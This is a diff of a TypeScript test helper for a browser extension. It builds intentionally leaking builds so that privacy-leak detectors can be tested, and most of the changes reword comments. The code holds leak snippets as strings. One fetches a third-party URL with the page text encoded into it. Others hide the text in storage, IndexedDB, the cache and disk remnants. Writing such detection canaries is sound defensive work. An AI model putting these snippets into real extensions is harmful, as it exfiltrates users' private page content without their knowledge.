@@ -1,4 +1,7 @@
-/** Builds that leak on purpose: what ships, with one line more. Each must be caught by the looks that find nothing in ours. */
+/**
+ * Builds that leak on purpose: the shipped build with one more line. Each leak must be detected by the same searches
+ * that find nothing in the shipped build.
+ */
 import { appendFileSync, cpSync, globSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -7,7 +10,7 @@ import type { Channel } from './privacy-channels.ts';
 
 export const shipped: Record<BrowserName, string> = { chromium: '.output/chrome-mv3', firefox: '.output/firefox-mv3' };
 
-/** What a leaking companion does with a text it has read. `tell` sends it to the background. */
+/** The code by which a leaking companion leaks a text that it has read. `tell` sends the text to the background. */
 const inPage: Partial<Record<Channel, string>> = {
   console: 'console.debug(text)',
   network: 'fetch("https://collecte.caf.fr/wzq?t=" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})',
@@ -16,7 +19,7 @@ const inPage: Partial<Record<Channel, string>> = {
   accessibility:
     'const one = document.createElement("button"); one.ariaLabelledByElements = [document.getElementById("riche")]; root.querySelector("[data-bubble]").append(one)',
 };
-/** What a leaking background does with it; each in another form. */
+/** The code by which a leaking background leaks it, each time in another form. */
 const behind: Partial<Record<Channel, string>> = {
   local: 'api.storage.local.set({ x: btoa(unescape(encodeURIComponent(text))) })',
   session:
@@ -25,13 +28,13 @@ const behind: Partial<Record<Channel, string>> = {
   indexedDB:
     'crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)).then((d) => { const o = indexedDB.open("x"); o.onupgradeneeded = () => o.result.createObjectStore("x"); o.onsuccess = () => { o.result.transaction("x", "readwrite").objectStore("x").put(1, [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, "0")).join("")); o.result.close(); }; })',
   cache: 'caches.open("x").then((c) => c.put("https://x.invalid/", new Response(encodeURIComponent(text))))',
-  // Taken back at once: only the disk remembers.
+  // It is removed at once, so only the disk still contains it.
   disk: 'api.storage.local.set({ y: [...text].slice(0, 8).join("") }).then(() => api.storage.local.remove("y"))',
   export: 'globalThis.leaked = text',
   localStorage: 'api.runtime.sendMessage({ kept: text }).catch(() => {})',
 };
 
-/** Where each leak is set off: the field it reads. */
+/** The field that triggers each leak. */
 export type Leaks = Partial<Record<Channel, string>>;
 
 export function leaking(browser: BrowserName, leaks: Leaks): string {
